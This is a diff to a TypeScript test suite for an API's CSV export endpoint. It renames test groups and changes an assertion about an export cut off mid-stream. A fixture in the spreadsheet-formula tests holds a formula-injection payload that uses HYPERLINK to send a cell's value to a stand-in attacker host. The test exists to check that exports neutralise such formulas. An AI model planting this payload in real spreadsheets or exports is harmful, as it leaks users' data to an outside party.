@@ -44,7 +44,7 @@ async function setup(t: TestApp) {
   return c;
 }
 
-describe("exports: GET /exports", () => {
+describe("exports: exportData (GET /exports)", () => {
   let t: TestApp;
   let c: Record<string, string>;
   const get = (query: string, key = t.keys.live) => t.http.get(`/api/v1/exports${query}`).set(bearer(key));
@@ -167,7 +167,7 @@ describe("exports: GET /exports", () => {
   });
 });
 
-describe("exports: spreadsheet formulas in CSV", () => {
+describe("exports: exportData, spreadsheet formulas in CSV", () => {
   // Each title starts with a character a spreadsheet reads as the start of a formula.
   const FORMULAS: Record<string, string> = {
     "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -232,7 +232,7 @@ describe("exports: CSV columns", () => {
   });
 });
 
-describe("exports: large tables", () => {
+describe("exports: exportData over large tables", () => {
   const ROWS = 20_000;
   let t: TestApp;
 
@@ -330,7 +330,8 @@ describe("exports: large tables", () => {
       .set(bearer(t.keys.live))
       .then(() => null)
       .catch((error: Error) => error);
-    expect(outcome, "the client must not see a complete response").to.be.instanceOf(Error);
+    // The headers went out with the first batches, so the client sees the connection cut mid-body.
+    expect(outcome, "the client must not see a complete response").to.include({ message: "aborted", code: "ECONNRESET" });
     const failure = lines.map((line) => JSON.parse(line)).find((entry) => entry.msg?.startsWith("export failed mid-stream"));
     expect(failure).to.include({ level: 50, resource: "equivalencies", format: "csv", operationId: "exportData" });
     expect(failure.err.message).to.equal("connection lost");
